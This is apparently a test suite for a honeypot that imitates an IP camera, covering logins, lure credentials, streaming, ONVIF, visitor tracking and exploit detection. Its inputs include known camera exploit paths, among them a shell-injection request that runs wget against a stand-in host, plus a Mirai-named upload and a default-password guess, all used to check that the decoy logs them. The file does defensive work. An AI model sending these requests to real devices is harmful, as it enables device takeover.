/** Ports 22100 to 22300 plus those of the camera. */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { loadImage } from '@napi-rs/canvas';
import type { DecoyEvent } from '../../model/decoy-event.ts';
import { openDecoy, type RunningDecoy } from '../open-decoy.ts';
import { openSeed } from '../seed.ts';
import { camera } from './camera.ts';
import { type CameraDevice, makeCameraDevice } from './device/camera-device.ts';

const SEED = 'a-seed-for-tests-0001';
let folder: string;
let decoy: RunningDecoy;
let base = 22_100;
const troubles: unknown[] = [];
const deviceOf = (seed: string): CameraDevice =>
  makeCameraDevice(openSeed(seed).branch('persona camera').branch('device'));
const device = deviceOf(SEED);
const admin = device.accounts[0];

function open(seed: string, portBase: number, name: string): Promise<RunningDecoy> {
  return openDecoy({
    persona: camera,
    seed,
    name,
    address: '127.0.0.1',
    portBase,
    events: join(folder, `${name}.events`),
    folder,
    mostEventBytes: 1e8,
    user: null,
    clock: Date.now,
    count: () => {},
    onTrouble: (error) => troubles.push(error),
  });
}

before(async () => {
  folder = mkdtempSync(join(tmpdir(), 'yamori-camera-'));
  decoy = await open(SEED, base, 'first');
});
after(async () => {
  await decoy.close();
  rmSync(folder, { recursive: true });
  assert.deepEqual(troubles, []);
});

const events = (): DecoyEvent[] =>
  readFileSync(join(folder, 'first.events'), 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));
const eventsOf = (id: string) => events().filter(({ eventid }) => eventid === id);

async function until<Value>(look: () => Value | undefined): Promise<Value> {
  for (;;) {
    const value = look();
    if (value !== undefined) return value;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/** All that comes back on a port, until the camera or `enough` ends it. */
async function say(port: number, text: string, enough = (_got: Buffer): boolean => false): Promise<Buffer> {
  const socket = connect(port, '127.0.0.1');
  let got: Buffer = Buffer.alloc(0);
  socket.on('error', () => {});
  socket.on('data', (data: Buffer) => {
    got = Buffer.concat([got, data]);
    if (enough(got)) socket.destroy();
  });
  socket.write(text);
  await once(socket, 'close');
  return got;
}
const http = (text: string, enough?: (got: Buffer) => boolean) => say(base + 80, text, enough);
const basic = `Authorization: Basic ${Buffer.from(`${admin.name}:${admin.password}`).toString('base64')}`;
const get = async (path: string, ...headers: string[]) =>
  (await http(`GET ${path} HTTP/1.0\r\nHost: camera\r\n${[...headers, ''].join('\r\n')}\r\n`)).toString(
    'latin1',
  );
const post = async (path: string, body: string, ...headers: string[]) =>
  (
    await http(
      `POST ${path} HTTP/1.0\r\nHost: camera\r\nContent-Length: ${Buffer.byteLength(body)}\r\n${[...headers, ''].join('\r\n')}\r\n${body}`,
    )
  ).toString('latin1');

test('a visitor signs in, changes a setting, adds an account, and all of it is there after a restart', async () => {
  assert.match(await get('/'), new RegExp(`Location: ${device.paths.login}`));
  assert.match(await get(device.paths.live), / 302 /);
  const wrong = await post(device.paths.signIn, `${device.prefix}user=admin&${device.prefix}pwd=wrong`);
  assert.match(wrong, /password error/);
  const right = await post(
    device.paths.signIn,
    `${device.prefix}user=admin&${device.prefix}pwd=${admin.password}`,
  );
  const cookie = `Cookie: ${/Set-Cookie: ([^;]+)/.exec(right)?.[1]}`;
  assert.match(await get(device.paths.live, cookie), new RegExp(device.paths.video.replace('.', '\\.')));
  await post(device.paths.save, 'p=osd&osdname=Back+door', cookie);
  await post(device.paths.save, 'p=users&name=backup&pwd=secret1&level=admin', cookie);
  await post(device.paths.save, 'p=image&brightness=9999&ircut=sideways', cookie);
  const writes = eventsOf('yamori.setting.write').map((event) => [
    event.point,
    event.previous_value,
    event.requested_value,
    event.resulting_value,
  ]);
  assert.deepEqual(writes, [
    ['osdname', device.spotName, 'Back door', 'Back door'],
    ['account', '', 'backup:secret1:admin', 'backup:secret1:admin'],
    ['brightness', '50', '9999', '100'],
    ['ircut', 'auto', 'sideways', 'auto'],
  ]);
  const failed = eventsOf('cowrie.login.failed');
  assert.deepEqual([failed[0].username, failed[0].password], ['admin', 'wrong']);
  const pages = eventsOf('yamori.http.page').map(({ page }) => page);
  assert.ok(pages.includes('login') && pages.includes('live'));
  await decoy.close();
  base += 100;
  decoy = await open(SEED, base, 'first');
  const again = `Authorization: Basic ${Buffer.from('backup:secret1').toString('base64')}`;
  assert.match(await get(`${device.paths.setup}?p=osd`, again), /value="Back door"/);
  await post(device.paths.save, 'p=users&del=backup', basic);
  assert.match(await get(device.paths.snapshot, again), / 401 /);
});

test('each visitor finds credentials of his own, and who uses them is known', async () => {
  const page = await get(`${device.paths.setup}?p=ftp`, basic);
  const [, username] = /name="ftpuser" value="([^"]+)"/.exec(page) ?? [];
  const [, password] = /name="ftppwd" value="([^"]+)"/.exec(page) ?? [];
  const planted = eventsOf('yamori.lure.planted').at(-1);
  assert.deepEqual([planted?.username, planted?.password], [username, password]);
  const used = `Authorization: Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`;
  assert.match(await get(`${device.paths.setup}?p=users`, used), /No permission/);
  assert.equal(eventsOf('yamori.lure.used').at(-1)?.place, 'camera-backup');
});

test('all viewers of a stream get the same bytes, drawn once, and nothing is drawn when they are gone', async () => {
  const isEnough = (got: Buffer) => got.toString('latin1').split(`--${device.boundary}`).length > 5;
  const viewers = await Promise.all(
    [1, 2, 3, 4].map(() => http(`GET ${device.paths.video} HTTP/1.0\r\n${basic}\r\n\r\n`, isEnough)),
  );
  const seen = viewers.map((got) =>
    got
      .toString('latin1')
      .split(`--${device.boundary}\r\n`)
      .slice(1, -1)
      .map((part) => createHash('sha256').update(part).digest('hex')),
  );
  const shared = seen[0].filter((one) => seen.every((others) => others.includes(one)));
  assert.ok(shared.length >= 2, `${shared.length} frames are the same for all`);
  assert.ok(new Set(seen[0]).size >= 4, 'the picture lives');
  const looks = await until(() => {
    const found = eventsOf('yamori.camera.frames').filter(({ stream }) => stream === 'mjpeg main');
    return found.length >= 4 ? found : undefined;
  });
  assert.ok(looks.every(({ frames, dwell_ms }) => Number(frames) >= 4 && Number(dwell_ms) > 0));
  assert.equal(looks.filter(({ still }) => typeof still === 'string').length, 1, 'they have one address');
});

test('pan, tilt and zoom change the picture, and say from where to where', async () => {
  const snapshot = async () =>
    (await get(device.paths.snapshot, basic)).split('\r\n\r\n').slice(1).join('\r\n\r\n');
  const before = await snapshot();
  assert.match(await get(`${device.paths.move}?act=right`, basic), /ok\r\n$/);
  await new Promise((resolve) => setTimeout(resolve, 400));
  await get(`${device.paths.move}?act=stop`, basic);
  await get(`${device.paths.move}?act=zoomin`, basic);
  const moved = eventsOf('yamori.camera.moved');
  assert.deepEqual(
    moved.map(({ requested_value }) => requested_value),
    ['1.00 0.00 0.00', '0.00 0.00 1.00'],
  );
  assert.notEqual(moved[0].previous_value, moved[1].previous_value);
  assert.notEqual(await snapshot(), before);
  assert.match(await get(`${device.paths.move}?act=constructor`, basic), /error\r\n$/);
  await get(`${device.paths.move}?act=home`, basic);
});

test('what a visitor looks at is kept small with what he does', async () => {
  const from = async (localAddress: string, path: string) => {
    // One is drawn in a second for all.
    await new Promise((resolve) => setTimeout(resolve, 1_100));
    const socket = connect({ port: base + 80, host: '127.0.0.1', localAddress });
    socket.resume().write(`GET ${path} HTTP/1.0\r\n${basic}\r\n\r\n`);
    await once(socket, 'close');
  };
  await from('127.0.0.21', device.paths.snapshot);
  await from('127.0.0.22', `${device.paths.move}?act=left`);
  await from('127.0.0.22', `${device.paths.move}?act=stop`);
  await from('127.0.0.22', `${device.paths.move}?act=right`);
  await from('127.0.0.22', `${device.paths.move}?act=home`);
  await from('127.0.0.23', `${device.paths.move}?act=leftdown`);
  await from('127.0.0.24', device.paths.snapshot);
  await new Promise((resolve) => setTimeout(resolve, 1_100));
  const player = connect({ port: base + 554, host: '127.0.0.1', localAddress: '127.0.0.25' });
  const url = `rtsp://127.0.0.1${device.paths.rtsp[1]}`;
  player.write(
    `DESCRIBE ${url} RTSP/1.0\r\nCSeq: 1\r\n${basic}\r\n\r\nSETUP ${url} RTSP/1.0\r\nCSeq: 2\r\n${basic}\r\nTransport: RTP/AVP/TCP;interleaved=0-1\r\n\r\nPLAY ${url} RTSP/1.0\r\nCSeq: 3\r\n${basic}\r\n\r\n`,
  );
  let bytes = 0;
  for await (const data of player) {
    bytes += (data as Buffer).length;
    if (bytes > 30_000) break;
  }
  await until(() => events().find(({ src_ip, stream }) => src_ip === '127.0.0.25' && stream === 'rtsp sub'));
  const told = events().filter(({ eventid }) => eventid.startsWith('yamori.camera.'));
  const stills = ['21', '22', '23', '24', '25'].map((last) =>
    told.filter(({ src_ip }) => src_ip === `127.0.0.${last}`).map(({ still }) => still),
  );
  // The second and third of the same visitor come too soon.
  assert.deepEqual(
    stills.map((of) => of.map((still) => typeof still)),
    [['string'], ['string', 'undefined', 'undefined'], ['string'], ['string'], ['string']],
  );
  const pictures = stills.map(([still]) => String(still));
  for (const still of pictures) {
    assert.ok(still.length <= 4_096);
    const { width, height } = await loadImage(Buffer.from(still, 'base64'));
    assert.deepEqual([width, height], [160, 90]);
  }
  assert.notEqual(pictures[0], pictures[3], 'he had turned it');
  await get(`${device.paths.move}?act=home`, basic);
});

test('an upload is kept as an event and is never a firmware', async () => {
  const body =
    '--x\r\nContent-Disposition: form-data; name="file"; filename="mirai.arm7"\r\n\r\n\x7fELF\r\n--x--\r\n';
  assert.match(
    await post(device.paths.upgrade, body, basic, 'Content-Type: multipart/form-data; boundary=x'),
    /check error/,
  );
  const upload = eventsOf('cowrie.session.file_upload').at(-1);
  assert.deepEqual([upload?.filename, upload?.size], ['mirai.arm7', body.length]);
});

test('the stylesheet marks who comes back', async () => {
  const etag = /ETag: (\S+)/.exec(await get(device.paths.style))?.[1];
  const other = /ETag: (\S+)/.exec(await get(device.paths.style))?.[1];
  assert.notEqual(etag, other);
  assert.match(await get(device.paths.style, `If-None-Match: ${etag}`), / 304 /);
  assert.equal(eventsOf('yamori.http.request').at(-1)?.etag, etag);
});

test('exploits for cameras are named, and none of them works', async () => {
  for (const target of [
    '/SDK/webLanguage',
    '/system.ini?loginuse&loginpas',
    '/shell?cd+/tmp;wget+http://192.0.2.1/x',
    '/onvif-http/snapshot?auth=YWRtaW46MTEK',
  ])
    assert.match(await get(target), /^HTTP\/1\.[01] 404 /);
  const names = eventsOf('yamori.exploit').map(({ name }) => name);
  for (const name of ['hikvision-web-language', 'goahead-system-ini', 'jaws-shell', 'hikvision-auth-bypass'])
    assert.ok(names.includes(name), name);
  assert.equal(eventsOf('yamori.indicator').at(-1)?.url, 'http://192.0.2.1/x');
});

const soap = (body: string, header = '') =>
  `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Header>${header}</s:Header><s:Body>${body}</s:Body></s:Envelope>`;

function token(password: string): string {
  const nonce = Buffer.from('0123456789abcdef');
  const created = new Date().toISOString();
  const digest = createHash('sha1')
    .update(nonce)
    .update(created + password)
    .digest('base64');
  return `<Security><UsernameToken><Username>admin</Username><Password Type="...#PasswordDigest">${digest}</Password><Nonce>${nonce.toString('base64')}</Nonce><Created>${created}</Created></UsernameToken></Security>`;
}

test('ONVIF tells strangers the time, and who proves himself where the streams are; it turns the camera too', async () => {
  const call = (body: string, header = '') => post('/onvif/device_service', soap(body, header));
  assert.match(await call('<GetSystemDateAndTime/>'), /UTCDateTime/);
  assert.match(await call('<GetDeviceInformation/>'), /NotAuthorized/);
  assert.match(await call('<GetDeviceInformation/>', token('wrong')), /NotAuthorized/);
  assert.match(
    await call('<GetDeviceInformation/>', token(admin.password)),
    new RegExp(`<tds:SerialNumber>${device.serial}<`),
  );
  const uri = await call(
    '<GetStreamUri><ProfileToken>SubProfile</ProfileToken></GetStreamUri>',
    token(admin.password),
  );
  assert.match(uri, new RegExp(`rtsp://camera:${base + 554}${device.paths.rtsp[1]}<`));
  assert.match(
    await call(
      '<ContinuousMove><Velocity><PanTilt x="-1" y="0"/></Velocity></ContinuousMove>',
      token(admin.password),
    ),
    /ContinuousMoveResponse/,
  );
  await call('<Stop/>', token(admin.password));
  assert.equal(eventsOf('yamori.camera.moved').at(-1)?.face, 'onvif');
  assert.match(await call('<GotoHomePosition/>', token(admin.password)), /GotoHomePositionResponse/);
  assert.match(
    await post('/onvif/device_service', '<!DOCTYPE x [<!ENTITY a "b">]><a/>'),
    /^HTTP\/1\.[01] 400 /,
  );
  assert.match(await call('<constructor/>', token(admin.password)), /ActionNotSupported/);
});

test('RTSP asks for a digest, refuses UDP, and plays over the connection', async () => {
  const url = `rtsp://127.0.0.1${device.paths.rtsp[0]}`;
  const rtsp = (text: string, enough?: (got: Buffer) => boolean) => say(base + 554, text, enough);
  const whole = (got: Buffer) => /\r\n\r\n$/.test(got.toString('latin1'));
  const asked = (await rtsp(`DESCRIBE ${url} RTSP/1.0\r\nCSeq: 7\r\n\r\n`, whole)).toString();
  assert.match(asked, /^RTSP\/1\.0 401 Unauthorized\r\nCSeq: 7\r\n/);
  assert.match(asked, /WWW-Authenticate: Digest realm="[^"]+", .*nonce="/);
  const nonce = /nonce="([^"]+)"/.exec(asked)?.[1];
  const realm = /realm="([^"]+)"/.exec(asked)?.[1];
  const md5 = (text: string) => createHash('md5').update(text).digest('hex');
  const middle = asked.includes('qop') ? `${nonce}:1:c:auth` : nonce;
  const response = md5(`${md5(`root:${realm}:xc3511`)}:${middle}:${md5(`DESCRIBE:${url}`)}`);
  const guess = `Authorization: Digest username="root", realm="${realm}", nonce="${nonce}", uri="${url}", response="${response}"${asked.includes('qop') ? ', qop=auth, nc=1, cnonce="c"' : ''}`;
  assert.match(
    (await rtsp(`DESCRIBE ${url} RTSP/1.0\r\nCSeq: 8\r\n${guess}\r\n\r\n`, whole)).toString(),
    / 401 /,
  );
  const guessed = eventsOf('cowrie.login.failed').at(-1);
  assert.deepEqual(
    [guessed?.username, guessed?.password],
    ['root', 'xc3511'],
    'a digest of a common password is told',
  );
  const udp = await rtsp(
    `SETUP ${url} RTSP/1.0\r\nCSeq: 1\r\n${basic}\r\nTransport: RTP/AVP;unicast;client_port=9-10\r\n\r\n`,
    whole,
  );
  assert.match(udp.toString(), /^RTSP\/1\.0 461 /);
  const play = [
    `DESCRIBE ${url} RTSP/1.0\r\nCSeq: 1\r\n${basic}\r\n\r\n`,
    `SETUP ${url} RTSP/1.0\r\nCSeq: 2\r\n${basic}\r\nTransport: RTP/AVP/TCP;unicast;interleaved=0-1\r\n\r\n`,
    `PLAY ${url} RTSP/1.0\r\nCSeq: 3\r\n${basic}\r\n\r\n`,
  ].join('');
  const got = (await rtsp(play, (bytes) => bytes.length > 60_000)).toString('latin1');
  assert.match(got, /m=video 0 RTP\/AVP 26/);
  const at = got.indexOf('\r\n\r\n', got.indexOf('CSeq: 3')) + 4;
  const bytes = Buffer.from(got.slice(at), 'latin1');
  const sequences: number[] = [];
  for (let n = 0; n + 4 < bytes.length; n += 4 + bytes.readUInt16BE(n + 2)) {
    assert.equal(bytes[n], 0x24);
    if (bytes[n + 1] === 0 && n + 20 < bytes.length) sequences.push(bytes.readUInt16BE(n + 6));
  }
  assert.ok(sequences.length > 20);
  assert.ok(sequences.every((one, n) => n === 0 || one === ((sequences[n - 1] + 1) & 0xffff)));
  assert.match(
    (await rtsp(`DESCRIBE ${url}/nothing RTSP/1.0\r\nCSeq: 1\r\n${basic}\r\n\r\n`, whole)).toString(),
    /404 Stream Not Found/,
  );
  assert.match((await rtsp('GET / HTTP/1.0\r\n\r\n')).toString(), /^RTSP\/1\.0 400 /);
});
